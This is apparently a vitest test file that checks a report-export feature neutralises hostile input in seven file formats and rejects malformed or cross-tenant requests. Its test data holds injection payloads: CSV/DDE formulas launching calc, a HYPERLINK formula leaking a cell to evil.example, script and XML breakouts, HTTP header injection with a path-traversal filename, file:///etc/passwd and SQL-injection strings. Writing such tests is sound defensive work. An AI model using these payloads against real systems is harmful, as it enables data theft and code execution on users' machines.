import { afterAll, expect } from 'vitest'
import { buildItem, buildPlan } from '../src/capabilities/delivery/build.ts'
import { stopWriting } from '../src/documents/writing/formats.ts'
import { partsOf } from '../src/documents/writing/zip-parts.ts'
import { journey, newWorld, type World } from './support.ts'

afterAll(stopWriting)

const nasty = [
  '=HYPERLINK("http://evil.example/?x="&A1,"Open")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "+cmd|'/C notepad'!A1",
  '-2+3+cmd|x',
  '＝1+1',
  '\tTab first',
  '<script>alert(1)</script>]]></w:t><!--',
  '&amp;&#0;&x; _x0041_ _x000D_',
  '#import "evil.typ": * $x$ `y` \\ @cite *b* _i_',
  'bidi \u202Egnp.exe\u202C and \u0007bell\u001B[31m',
  'javascript:alert(1) file:///etc/passwd \\\\evil\\share',
  `long ${'wörd '.repeat(1800)}`,
]

/** A plan whose name and every row were written by somebody who means harm. */
async function nastyPlan(world: World) {
  const lead = await world.as('governance lead')
  const plan = await buildPlan(world, lead.personId, { name: 'Plan"\r\nX-Evil: 1\r\n\r\n<b>; filename="../../a.exe"' })
  for (const title of nasty) await buildItem(world, lead.personId, { planId: plan, title })
  return { lead, plan, at: `/reports/plans/${plan}` }
}

journey('hostile words go out in every format as words: no formula, no markup, no address, no header', async (world) => {
  const { lead, at } = await nastyPlan(world)
  for (const format of ['pdf', 'docx', 'xlsx', 'pptx', 'csv', 'json', 'html']) {
    const answer = await lead.get(`${at}/${format}`)
    expect(answer.status, format).toBe(200)
    expect(answer.headers.get('x-evil')).toBeNull()
    const named = answer.headers.get('content-disposition') ?? ''
    expect(named, format).toMatch(new RegExp(`^attachment; filename="[A-Za-z0-9 ._()-]{1,120}\\.${format}"$`))
    expect(answer.headers.get('x-content-type-options')).toBe('nosniff')
    const bytes = Buffer.from(await answer.arrayBuffer())
    if (['docx', 'xlsx', 'pptx'].includes(format)) await officeIsHarmless(bytes, format)
    if (format === 'csv') for (const cell of bytes.toString().matchAll(/(?:^|,)"?([=+@\t＝])/gm)) expect(cell[0], 'a cell of CSV').toBe('')
    if (format === 'html') expect(bytes.toString()).not.toMatch(/<script>alert|href="(javascript|file):/)
  }
})

async function officeIsHarmless(bytes: Buffer, format: string) {
  for (const [name, part] of await partsOf(bytes)) {
    if (!/\.(xml|rels)$/.test(name)) continue
    const xml = part.toString()
    // biome-ignore lint/suspicious/noControlCharactersInRegex: they are what must not stand there
    expect(xml, `${format} ${name}`).not.toMatch(/[\u0000-\u0008\u000b\u000c\u000e-\u001f\ufffe\uffff]/)
    expect(xml, `${format} ${name}`).not.toMatch(/<f>|<f |<script|<!ENTITY|<!DOCTYPE|instrText[^>]*>\s*(HYPERLINK|DDE)/i)
    for (const [, target = ''] of xml.matchAll(/Target="([^"]*)"[^>]*TargetMode="External"/g))
      expect(target, `${format} ${name}`).toMatch(/^https?:\/\/(?!evil)/)
  }
}

journey('a file keeps its ending, however long the name of the paper', async (world) => {
  const lead = await world.as('governance lead')
  const plan = await buildPlan(world, lead.personId, { name: 'A very long name of a plan '.repeat(12) })
  const answer = await lead.get(`/reports/plans/${plan}/csv`)
  expect(answer.headers.get('content-disposition')).toMatch(/^attachment; filename="[^"]{100,120}\.csv"$/)
})

journey('nonsense in the address of a paper is told, and never a fault of ours', async (world) => {
  const { lead, at } = await nastyPlan(world)
  const odd = ['', '0', '-1', '1e3', '999999999999999999999', '2147483648', "1' or '1'='1", '__proto__', '%00', '２', 'NaN', '../1']
  const asked = ['period', 'table', 'on', 'on-day', 'on-year', 'kind', 'body', 'as-at', 'theme', 'brick']
  for (const path of [at, `${at}/csv`, '/reports/register', '/reports/register/csv', '/reports/since', '/reports/since/csv', '/packs'])
    for (const key of asked)
      for (const value of odd) {
        const answer = await lead.get(`${path}?${key}=${encodeURIComponent(value)}`)
        expect(answer.status, `${path}?${key}=${value}`).toBeLessThan(500)
      }
  for (const path of [
    '/packs/X',
    '/packs/editions/X/public/csv',
    '/reports/plans/X/xlsx',
    '/imports/X/pages/1/picture',
    '/packs/X/sections/X',
  ])
    for (const value of ['0', '-1', '1e3', '99999999999999999999', '2147483648', '1.5', '%00', 'x'])
      expect((await lead.get(path.replaceAll('X', value))).status, path.replaceAll('X', value)).toBe(404)
  for (const on of ['2024-02-30', '0000-00-00', '9999-12-31', '2024-10-16', '-2024-01-01', 'yesterday'])
    expect([200, 422], on).toContain((await lead.get(`/reports/since?on=${on}`)).status)
})

journey('a paper of another trust is nowhere, in any format', async (world) => {
  const { at } = await nastyPlan(world)
  const stranger = await (await newWorld()).as('governance lead', 'administrator', 'secretary')
  for (const format of ['', '/pdf', '/docx', '/xlsx', '/pptx', '/csv', '/json', '/html'])
    expect((await stranger.get(`${at}${format}`)).status, format).toBe(404)
})
